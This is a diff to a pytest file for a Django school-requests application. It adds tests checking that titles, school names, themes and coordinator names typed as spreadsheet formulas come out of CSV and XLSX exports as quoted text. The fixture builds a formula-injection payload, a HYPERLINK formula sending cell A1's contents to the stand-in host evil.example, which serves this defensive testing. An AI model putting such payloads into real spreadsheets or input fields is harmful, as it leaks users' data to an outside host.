@@ -4,6 +4,7 @@ its page, its notice and the same rows as the file answered at once."""
 import csv
 import datetime
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -30,8 +31,9 @@ def campaign(academie):
     return CampaignFactory(academie=academie)
 
 
-def endorsed_request(campaign, school, title, **fields):
-    coordinator = user_with_role(Role.ENSEIGNANT, etablissement=school)
+def endorsed_request(campaign, school, title, coordinator_name=None, **fields):
+    names = {"full_name": coordinator_name} if coordinator_name else {}
+    coordinator = user_with_role(Role.ENSEIGNANT, etablissement=school, **names)
     ant = ant_request(campaign=campaign, coordinator=coordinator, school=school, title=title)
     values = {
         "state": State.ENDORSED,
@@ -101,8 +103,8 @@ def test_big_xlsx_export_is_produced_in_the_background_with_the_queue_rows(
     assert [row[0] for row in rows[1:]] == sorted(ant.reference for ant in queue)
     assert rows[1][3] == "Visée par le chef d'établissement"
     assert rows[1][13] == datetime.datetime(2020, 6, 22)
-    # The title typed as a formula is text in the file, never a formula.
-    cell = next(row[1] for row in sheet.iter_rows() if row[1].value == PAYLOAD)
+    # The title typed as a formula is quoted text in the file, never a formula.
+    cell = next(row[1] for row in sheet.iter_rows() if row[1].value == "'" + PAYLOAD)
     assert cell.data_type == "s"
 
     page = client.get(export.get_absolute_url())
@@ -181,7 +183,7 @@ def test_xlsx_answered_at_once_has_the_formula_as_text(client, dafor, queue):
     response = client.get(reverse("requests:queue_export", args=["xlsx"]))
 
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
-    cell = next(row[1] for row in sheet.iter_rows() if row[1].value == PAYLOAD)
+    cell = next(row[1] for row in sheet.iter_rows() if row[1].value == "'" + PAYLOAD)
     assert cell.data_type == "s"
     assert not Export.objects.exists()
 
@@ -231,3 +233,60 @@ def test_queue_rows_are_read_in_one_query(dafor, queue, academie, django_assert_
     with django_assert_num_queries(1):
         rows = list(exports.queue_rows(queryset))
     assert len(rows) == 5
+
+
+# Text typed by a team, a school import or a user that would start a formula ------------------
+# OWASP's starts (ASVS 1.2.10), the line feed, and the full-width signs.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
+TYPED_COLUMNS = {"title": 1, "school": 6, "theme": 9, "coordinator": 10}
+
+
+def typed(start, column):
+    return f'{start}HYPERLINK("http://evil.example/{column}?d="&A1,"Cliquez")'
+
+
+@pytest.fixture
+def formula_requests(campaign, academie):
+    """One request of the queue per formula start, its title, coordinating school's name,
+    team's own theme and coordinator's name all typed as that formula."""
+    for start in FORMULA_STARTS:
+        school = EtablissementFactory(academie=academie, name=typed(start, "school"))
+        endorsed_request(
+            campaign,
+            school,
+            typed(start, "title"),
+            coordinator_name=typed(start, "coordinator"),
+            own_theme=typed(start, "theme"),
+            theme=None,
+        )
+
+
+def exported_rows(client, fmt):
+    response = client.get(reverse("requests:queue_export", args=[fmt]))
+    assert response.status_code == 200
+    if fmt == "csv":
+        text = b"".join(response.streaming_content).decode("utf-8")
+        return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
+    data = response.content
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml  # not one formula in the sheet
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    for row in sheet.iter_rows():
+        for column in TYPED_COLUMNS.values():
+            assert row[column].data_type == "s"
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_typed_formulas_come_out_of_the_offices_export_neutralised(
+    client, dafor, formula_requests, fmt
+):
+    client.force_login(dafor)
+
+    rows = exported_rows(client, fmt)
+
+    exported = {tuple(row[i] for i in TYPED_COLUMNS.values()) for row in rows[1:]}
+    assert exported == {
+        tuple("'" + typed(start, column) for column in TYPED_COLUMNS) for start in FORMULA_STARTS
+    }
